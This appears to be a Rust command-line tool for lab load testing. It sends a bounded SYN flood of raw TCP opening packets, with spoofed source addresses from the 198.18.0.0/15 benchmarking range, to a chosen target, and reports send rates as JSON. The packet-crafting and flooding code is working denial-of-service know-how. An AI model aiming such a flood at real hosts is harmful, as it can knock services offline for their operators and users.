//! A bounded SYN flood: opening packets from random sources of 198.18.0.0/15, which is set aside
//! for measurements (RFC 2544), to one address. Answers how many it sent, as JSON.
//!
//! Only for a namespace of the lab: the addresses that it makes up are routed nowhere else.
#![expect(clippy::print_stdout, reason = "the report goes to standard output")]

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd as _;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use clap::Parser;
use serde_json::json;
use socket2::{Domain, Protocol, Socket, Type};

/// Packets given to the kernel at a time.
const BATCH: usize = 64;
/// An IPv4 header and a TCP header, both without options.
const LENGTH: usize = 40;
/// Longest flood.
const SECONDS_MAX: u64 = 60;

#[derive(Parser)]
struct Args {
    /// Where to.
    #[arg(long)]
    target: SocketAddrV4,
    /// How long, in seconds.
    #[arg(long)]
    seconds: u64,
    /// Packets at most.
    #[arg(long)]
    packets_max: u64,
}

fn main() -> Result<()> {
    let args = Args::parse();
    ensure!(args.seconds <= SECONDS_MAX, "at most {SECONDS_MAX} seconds");
    // Raw sockets of this protocol are given whole packets.
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
    socket.connect(&args.target.into()).context("connect; does a route lead there?")?;
    let began = Instant::now();
    let end = began + Duration::from_secs(args.seconds);
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    let mut packets = [[0_u8; LENGTH]; BATCH];
    let (mut sent, mut refused) = (0_u64, 0_u64);
    while Instant::now() < end && sent < args.packets_max {
        for packet in &mut packets {
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            *packet = opening(random, args.target);
        }
        match send(&socket, &mut packets) {
            Ok(count) => sent += count,
            // The device's queue is full: that is the most that the machine can send.
            Err(_) => refused += 1,
        }
    }
    let millis = u64::try_from(began.elapsed().as_millis())?.max(1);
    println!("{}", json!({"sent": sent, "refused": refused, "a_second": sent * 1000 / millis}));
    Ok(())
}

fn send(socket: &Socket, packets: &mut [[u8; LENGTH]; BATCH]) -> io::Result<u64> {
    let mut parts: [libc::iovec; BATCH] = packets
        .each_mut()
        .map(|packet| libc::iovec { iov_base: packet.as_mut_ptr().cast(), iov_len: LENGTH });
    let mut messages: [libc::mmsghdr; BATCH] = parts.each_mut().map(|part| {
        // SAFETY: all zeroes is a valid `mmsghdr`: null pointers with lengths of zero.
        let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
        message.msg_hdr.msg_iov = part;
        message.msg_hdr.msg_iovlen = 1;
        message
    });
    let count = libc::c_uint::try_from(BATCH).map_err(io::Error::other)?;
    // SAFETY: as many messages as are told of, whose parts and packets outlive the call.
    let answer = unsafe { libc::sendmmsg(socket.as_raw_fd(), messages.as_mut_ptr(), count, 0) };
    u64::try_from(answer).map_err(|_| io::Error::last_os_error())
}

/// One opening packet whose source and sequence number are taken from `random`. The kernel adds
/// the checksum of the IPv4 header.
fn opening(random: u64, target: SocketAddrV4) -> [u8; LENGTH] {
    let bytes = random.to_be_bytes();
    let source = Ipv4Addr::new(198, 18 | bytes[0] & 1, bytes[1], bytes[2] | 1);
    let mut packet = [0; LENGTH];
    packet[..4].copy_from_slice(&[0x45, 0, 0, 40]);
    packet[6] = 0x40; // not to be fragmented
    packet[8..10].copy_from_slice(&[64, 6]);
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&target.ip().octets());
    packet[20..22].copy_from_slice(&[bytes[3] | 0x80, bytes[4]]);
    packet[22..24].copy_from_slice(&target.port().to_be_bytes());
    packet[24..28].copy_from_slice(&bytes[4..8]);
    packet[32..36].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]); // SYN
    let sum: u32 = packet[12..].chunks(2).map(|w| u32::from(w[0]) << 8 | u32::from(w[1])).sum();
    // The pseudo header's protocol and length (RFC 9293, section 3.1).
    let sum = sum + 6 + 20;
    let folded = (sum & 0xffff) + (sum >> 16);
    let [_, _, high, low] = (!(folded + (folded >> 16))).to_be_bytes();
    packet[36..38].copy_from_slice(&[high, low]);
    packet
}
